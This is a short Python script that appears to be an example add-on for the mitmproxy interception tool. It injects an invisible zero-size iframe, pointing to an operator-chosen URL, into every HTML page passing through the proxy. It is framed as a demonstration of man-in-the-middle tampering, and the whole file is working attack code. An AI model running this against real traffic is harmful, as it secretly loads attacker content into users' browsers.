"""Injects an invisible iframe into every HTML page, right after its ``<body>`` tag, the
classic demonstration of what a man in the middle can do to a page.

Usage: mitmdump -s "examples/iframe_injector.py URL"
(this script works best with --anticache, so that pages are not answered from the
browser's cache with "304 Not Modified")
"""
import html
import re
import sys
import urllib.parse

state = {}

# The opening <body ...> tag, whatever its attributes and case.
BODY_TAG = re.compile(r"<body\b[^>]*>", re.IGNORECASE)


def start():
    if len(sys.argv) != 2:
        raise ValueError('Usage: -s "iframe_injector.py URL"')
    state["url"] = sys.argv[1]
    state["host"] = urllib.parse.urlsplit(sys.argv[1]).hostname


def response(flow):
    if flow.request.host == state["host"]:
        return  # the injected page itself is left alone
    if "text/html" not in flow.response.headers.get("content-type", ""):
        return
    page = flow.response.get_text(strict=False)
    if page is None:
        return
    iframe = '<iframe src="%s" frameborder="0" height="0" width="0"></iframe>' % (
        html.escape(state["url"]))
    injected, count = BODY_TAG.subn(lambda m: m.group(0) + iframe, page, count=1)
    if count:
        flow.response.text = injected
